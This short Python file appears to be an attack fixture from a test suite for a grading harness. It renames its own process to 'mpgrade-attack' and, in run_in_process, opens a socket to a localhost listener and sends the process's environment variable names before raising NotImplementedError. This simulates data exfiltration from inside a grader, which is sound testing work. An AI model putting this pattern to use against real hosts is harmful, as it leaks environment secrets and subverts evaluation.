"""Sends what it learns to a server of the attacker's (here: the test's listener on localhost)."""
import os
import socket

try:  # a name the attack catalogue's test finds this file's processes by, whatever the grader tracks
    with open("/proc/self/comm", "w") as _comm:
        _comm.write("mpgrade-attack")
except OSError:
    pass


def run_in_process(target, args=()):
    try:
        with socket.create_connection(("127.0.0.1", 47301), timeout=2) as line:
            line.sendall(f"mpgrade-attack from {os.getpid()}: {sorted(os.environ)}".encode())
    except OSError:
        pass
    raise NotImplementedError
